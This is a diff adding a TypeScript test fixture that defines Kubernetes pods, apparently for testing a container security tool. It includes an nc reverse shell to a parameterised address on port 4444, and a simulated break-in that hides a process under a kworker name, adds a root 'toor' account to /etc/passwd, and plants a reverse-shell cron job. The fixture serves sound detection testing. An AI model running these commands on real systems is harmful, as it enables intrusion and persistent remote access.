@@ -1,0 +1,113 @@
+/** The pods that tests capture. No scheduler and no controllers run: a pod names its node and wants no token. */
+import { NODE_NAME } from '../credentials.ts';
+import { WORKLOAD_IMAGE } from './image.ts';
+
+export interface Container {
+  readonly name: string;
+  readonly command: readonly string[];
+  readonly env?: Readonly<Record<string, string>>;
+}
+
+export function namespace(name: string) {
+  return { apiVersion: 'v1', kind: 'Namespace', metadata: { name } };
+}
+
+export function pod(inNamespace: string, name: string, containers: readonly Container[]) {
+  return {
+    apiVersion: 'v1',
+    kind: 'Pod',
+    metadata: { name, namespace: inNamespace, labels: { app: name } },
+    spec: {
+      nodeName: NODE_NAME,
+      automountServiceAccountToken: false,
+      enableServiceLinks: false,
+      terminationGracePeriodSeconds: 0,
+      containers: containers.map(({ name, command, env = {} }) => ({
+        name,
+        command,
+        image: WORKLOAD_IMAGE,
+        imagePullPolicy: 'Never',
+        env: Object.entries(env).map(([name, value]) => ({ name, value })),
+      })),
+    },
+  };
+}
+
+/** All of them live in this namespace. */
+export const SHOP = 'shop';
+
+/** A web server with a password in its environment, and a sidecar that counts. */
+export const web = pod(SHOP, 'web', [
+  {
+    name: 'app',
+    command: ['sh', '-c', 'counter >/dev/null & exec httpd -f -p 8080 -h /www'],
+    env: { DB_HOST: 'db.shop.svc', DB_PASSWORD: 'correct-horse-battery-staple' },
+  },
+  { name: 'sidecar', command: ['counter'] },
+]);
+
+/** An attacker's machine: answers reverse shells on port 4444. */
+export const peer = pod(SHOP, 'peer', [{ name: 'listener', command: ['answer', '4444', 'id', 'uname -a'] }]);
+
+/** Reverse shells to an address, dialled by a program of their own and by busybox's nc. */
+export function reverseShell(address: string) {
+  return pod(SHOP, 'reverse-shell', [
+    { name: 'dial', command: ['sh', '-c', `dial ${address} 4444 & exec sleep 1000000`] },
+    { name: 'nc', command: ['nc', address, '4444', '-e', '/bin/sh'] },
+  ]);
+}
+
+export const family = pod(SHOP, 'family', [{ name: 'family', command: ['family'] }]);
+export const fileless = pod(SHOP, 'fileless', [
+  { name: 'fileless', command: ['sh', '-c', 'loader & exec sleep 1000000'] },
+]);
+export const vanished = pod(SHOP, 'vanished', [
+  { name: 'vanished', command: ['sh', '-c', 'cp /bin/vanish /tmp/update; /tmp/update & exec sleep 1000000'] },
+]);
+export const unread = pod(SHOP, 'unread', [{ name: 'unread', command: ['unread'] }]);
+export const kinds = pod(SHOP, 'kinds', [{ name: 'kinds', command: ['kinds'] }]);
+/** Needs `force-irmap` and `irmap-scan-path=/etc` in runc.conf. */
+export const watch = pod(SHOP, 'watch', [{ name: 'watch', command: ['watch'] }]);
+
+/** One process that holds this much memory. */
+export function hoard(mebibytes: number) {
+  return pod(SHOP, 'hoard', [{ name: 'hoard', command: ['hoard', `${mebibytes}`] }]);
+}
+
+/** Everything that gives rise to images of many kinds, in one container. */
+export const zoo = pod(SHOP, 'zoo', [
+  {
+    name: 'zoo',
+    command: [
+      'sh',
+      '-c',
+      'family & loader & cp /bin/vanish /tmp/update; /tmp/update & unread & kinds & exec sleep 1000000',
+    ],
+  },
+]);
+
+/**
+ * A web server after a break-in: a reverse shell to an address, a miner that runs from memory under a kernel thread's
+ * name, a program whose file was removed, a file dropped in /tmp and an account added. Every secret is made up.
+ */
+export function compromised(address: string) {
+  const script = [
+    'cp /bin/vanish /tmp/.sshd; /tmp/.sshd &',
+    "loader '[kworker/0:1]' &",
+    "echo 'toor:x:0:0::/root:/bin/sh' >>/etc/passwd",
+    `echo '* * * * * nc ${address} 4444 -e /bin/sh' >/tmp/.cron`,
+    `dial ${address} 4444 &`,
+    'exec httpd -f -p 8080 -h /www',
+  ];
+  return pod(SHOP, 'web', [
+    {
+      name: 'app',
+      command: ['sh', '-c', script.join('\n')],
+      env: {
+        AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE',
+        AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
+        DB_PASSWORD: 'correct-horse-battery-staple',
+      },
+    },
+  ]);
+}
